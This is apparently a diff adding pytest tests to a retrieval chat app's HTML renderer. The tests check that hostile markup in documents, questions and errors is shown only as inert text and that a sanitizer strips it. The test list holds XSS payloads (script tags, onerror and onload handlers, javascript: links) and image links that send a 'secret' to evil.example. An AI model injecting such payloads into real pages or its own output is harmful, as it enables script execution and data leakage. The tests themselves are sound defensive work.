@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
@@ -168,3 +169,93 @@ def test_upload_checks_type_and_size(tmp_path: Path):
     assert check_upload(small, "a.txt", settings) is None
     assert "larger than" in (check_upload(big, "b.txt", settings) or "")
     assert "unsupported file type '.exe'" in (check_upload(small, "a.exe", settings) or "")
+
+
+# ---------------------------------------------------------------- hostile markup (issue 7)
+class _Tags(HTMLParser):
+    """Every element and attribute a browser would build from a fragment."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict[str, str | None]]] = []
+        self.text = ""
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, dict(attrs)))
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+
+def visible_text(fragment: str) -> str:
+    parser = _Tags()
+    parser.feed(fragment)
+    return parser.text
+
+
+def live_markup(fragment: str) -> list[str]:
+    """What in `fragment` could run code or fetch from elsewhere: script-ish elements, event
+    handlers, links, images, styles and URL-valued attributes."""
+    parser = _Tags()
+    parser.feed(fragment)
+    bad = []
+    for tag, attrs in parser.found:
+        if tag in {"script", "img", "a", "iframe", "object", "embed", "svg", "style", "link"}:
+            bad.append(f"<{tag}>")
+        bad += [f"{tag}[{name}]" for name in attrs if name.startswith("on")]
+        bad += [f"{tag}[{name}]" for name in attrs if name in {"href", "src", "style", "action"}]
+    return bad
+
+
+HOSTILE = [
+    "<script>window.__pwned=1</script>",
+    '<img src=x onerror="window.__pwned=1">',
+    '<a href="javascript:alert(1)">click</a>',
+    "[click](javascript:alert(1))",
+    "![x](http://evil.example/?q=secret)",
+    '<img src="http://evil.example/pixel.png">',
+    '<div onmouseover="alert(1)">hover</div>',
+    '"><svg onload=alert(1)>',
+    "<style>body{display:none}</style>",
+    "<!-- hidden --><iframe src=//evil.example></iframe>",
+]
+
+
+@pytest.mark.parametrize("payload", HOSTILE)
+def test_hostile_document_text_never_becomes_live_markup(payload: str):
+    doc = f"Sergei Naryshkin is the director of the SVR. {payload} He spoke to Burns."
+    c = Citation(n=1, source=f"{payload}.txt", title=payload, chunk_id="c", start=0,
+                 end=len(doc), text=doc, chunk_text=doc)  # fmt: skip
+    answer = _answer(text=f"{payload} Naryshkin leads the SVR [1].", citations=(c,))
+    for fragment in (
+        render.sources_html(answer),
+        render.answer_html(answer),
+        render.question_html(payload),
+        render.streaming_html(payload),
+        render.error_notice(payload),
+        render.upload_results_html([FileResult(payload, "skipped", reason=payload)]),
+    ):
+        assert live_markup(fragment) == [], fragment
+    # ... and the user still sees it, as text
+    assert payload in visible_text(render.answer_html(answer))
+    assert payload in visible_text(render.sources_html(answer))
+    assert payload in visible_text(render.question_html(payload))
+
+
+@pytest.mark.parametrize("payload", HOSTILE)
+def test_sanitizer_removes_live_markup_that_slipped_through(payload: str):
+    """Defence in depth: raw markup handed to the sanitizer comes out inert."""
+    assert live_markup(render.sanitize(f'<div class="rag-answer">{payload}</div>')) == []
+
+
+def test_sanitizer_keeps_the_markup_the_chat_uses():
+    html = render.answer_html(
+        _answer(
+            text="Naryshkin leads the SVR [1]. He likes jazz [1].",
+            sentences=(SentenceCheck("He likes jazz [1].", (1,), False, 0.1, 0.0, 0.2),),
+        )
+    )
+    assert '<span class="rag-unsupported" title="' in html and "<br>" not in html
+    assert '<div class="rag-meta">' in html
+    panel = render.sources_html(_answer())
+    assert '<div class="rag-source" id="rag-source-1">' in panel and "<mark>" in panel
